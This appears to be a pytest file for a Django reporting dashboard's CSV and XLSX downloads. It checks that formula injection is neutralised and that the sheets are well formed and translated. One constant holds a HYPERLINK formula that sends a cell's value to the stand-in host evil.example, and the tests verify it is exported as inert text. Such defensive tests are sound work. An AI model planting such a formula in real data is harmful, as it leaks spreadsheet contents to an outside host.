"""Dashboard downloads: no live formulas (CSV and XLSX), and a spreadsheet people can use —
typed cells, translated headers and sheet names, one sheet per list, filters."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from ccm.compliance import exports
from ccm.compliance.tests.factories import complete_record
from ccm.registry.tests import factories
from ccm.reports.choices import Origin
from ccm.reports.tests.factories import SubmissionFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
LISTS_EN = ["Initial reports overdue", "Annual reports missing", "Reports due soon"]
LISTS_EN += ["Initial reports unknown", "Annual reports unknown"]  # issue #24


def _book(client: Client, url: str) -> Workbook:
    response = client.get(url)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


@pytest.mark.parametrize(
    ("complete", "sheet_name"),
    [
        (True, "Initial reports overdue"),  # the ISU's complete record
        (False, "Initial reports unknown"),  # issue #24: not in our record
    ],
)
def test_state_name_beginning_with_equals_is_text_in_the_spreadsheet(
    client: Client, complete: bool, sheet_name: str
) -> None:
    factories.party("XEV", EVIL, signed="2008-12-03", deposited="2010-12-16")
    if complete:
        complete_record("XEV")
    book = _book(client, "/reporting/?as_of=2012-06-01&format=xlsx")
    sheet = book[sheet_name]
    cell = sheet["B2"]
    assert cell.value == EVIL and cell.data_type == "s"  # a string, not a formula
    assert cell.hyperlink is None
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize(
    ("complete", "listed", "status"),
    [(True, "overdue_initial", "overdue"), (False, "unknown_initial", "unknown")],
)
def test_state_name_beginning_with_equals_is_neutralised_in_the_csv(
    client: Client, complete: bool, listed: str, status: str
) -> None:
    factories.party("XEV", EVIL, signed="2008-12-03", deposited="2010-12-16")
    if complete:
        complete_record("XEV")
    content = client.get("/reporting/?as_of=2012-06-01&format=csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(content)))
    assert rows[0]["name"] == "'" + EVIL
    # Other cells keep their data-contract values.
    assert rows[0]["iso3"] == "XEV" and rows[0]["due_date"] == "2011-11-28"
    assert (rows[0]["list"], rows[0]["status"]) == (listed, status)
    assert rows[0]["days_overdue"] == ("186" if complete else "")  # none when unknown


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_that_start_a_formula_are_neutralised(cell: str) -> None:
    assert exports.neutralised(cell) == "'" + cell


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_neutralising_changes_only_cells_that_would_start_a_formula(text: str) -> None:
    out = exports.neutralised(text)
    if text.startswith(exports.FORMULA_TRIGGERS):
        assert out in (text, "'" + text)
    else:
        assert out == text
    if out.startswith(exports.FORMULA_TRIGGERS):  # only a plain number may still start so
        float(out)


@pytest.mark.parametrize("number", ["-3", "-0.5", "+2"])
def test_plain_numbers_are_left_as_numbers(number: str) -> None:
    assert exports.neutralised(number) == number


def test_spreadsheet_has_a_summary_and_one_sheet_per_list_with_typed_cells(
    client: Client, reference: None
) -> None:
    book = _book(client, "/reporting/?as_of=2019-08-01&format=xlsx")
    assert book.sheetnames == ["Summary", *LISTS_EN]
    summary = book["Summary"]
    assert isinstance(summary["B2"].value, datetime) and summary["B2"].is_date
    assert summary["B2"].value.date().isoformat() == "2019-08-01"
    headers = [c.value for c in summary[5]]
    assert headers[:4] == ["Report", "Year covered", "Deadline", "Due"]
    assert summary.auto_filter.ref and summary.auto_filter.ref.startswith("A5:")
    assert summary.freeze_panes == "A6"
    initial = [c.value for c in summary[6]]
    assert initial[0] == "initial report" and isinstance(initial[3], int)
    rate = summary.cell(6, headers.index("Rate") + 1)
    assert isinstance(rate.value, float) and 0 < rate.value <= 1 and "%" in rate.number_format
    # The overdue lists name the States, in the language, beside their codes.
    overdue = summary.cell(6, headers.index("Overdue: States") + 1).value
    assert overdue and "(" in overdue and ")" in overdue
    annual = [c.value for c in summary[7]]
    assert isinstance(annual[1], int) and isinstance(annual[2], datetime)

    sheet = book["Initial reports overdue"]
    header = [c.value for c in sheet[1]]
    assert header[:5] == ["ISO 3166 alpha-3", "State", "Report", "Year covered", "Deadline"]
    assert sheet.auto_filter.ref == f"A1:J{sheet.max_row}"
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width > 10
    row = [c.value for c in sheet[2]]
    assert len(row[0]) == 3 and row[1] and row[1] != row[0]
    assert isinstance(row[4], datetime) and sheet.cell(2, 5).is_date
    assert isinstance(row[header.index("Days overdue")], int)
    assert isinstance(row[header.index("The source gives another deadline")], bool)

    # Exactly what the page shows: the lists' rows add up to the page's rows.
    html = client.get("/reporting/?as_of=2019-08-01").content.decode()
    rows = sum(book[name].max_row - 1 for name in LISTS_EN)
    assert rows == html.count('<tr data-iso3="')


def test_spreadsheet_speaks_the_pages_language(client: Client, reference: None) -> None:
    book = _book(client, "/fr/reporting/?as_of=2019-08-01&format=xlsx")
    assert book.sheetnames[1:4] == [
        "Rapports initiaux en retard",
        "Rapports annuels manquants",
        "Rapports à rendre bientôt",
    ]
    assert len(book.sheetnames) == 6  # and the two lists of reports not in our record
    header = [c.value for c in book["Rapports initiaux en retard"][1]]
    assert header[1] == "État" and header[4] == "Échéance" and "Statut" in header
    assert "Jours de retard" in header
    fr_name = {r[0]: r[1] for r in book["Rapports initiaux en retard"].iter_rows(values_only=True)}
    en = _book(client, "/reporting/?as_of=2019-08-01&format=xlsx")
    en_name = {r[0]: r[1] for r in en["Initial reports overdue"].iter_rows(values_only=True)}
    assert any(fr_name[k] != en_name[k] for k in en_name if k in fr_name)  # names in French


def test_spreadsheet_carries_the_demonstration_data_note(client: Client, reference: None) -> None:
    SubmissionFactory(
        state_id="AFG", kind="initial", received_on=date(2012, 9, 1), source="generated",
        origin=Origin.DEMO,
    )  # fmt: skip
    book = _book(client, "/reporting/?as_of=2013-01-01&format=xlsx")
    assert "demonstration" in book["Summary"]["A3"].value
    assert book["Initial reports overdue"].cell(1, 11).value == "Demonstration data"
    plain = _book(client, "/reporting/?as_of=2012-06-01&format=xlsx")
    assert plain["Summary"]["A3"].value is None  # before the generated report: no note


def test_the_download_links_sit_near_the_top_of_the_dashboard(client) -> None:  # type: ignore[no-untyped-def]
    html = client.get("/reporting/?as_of=2020-06-01").content.decode()
    assert "format=xlsx" in html
    assert html.index('id="downloads"') < html.index('id="key-figures"')
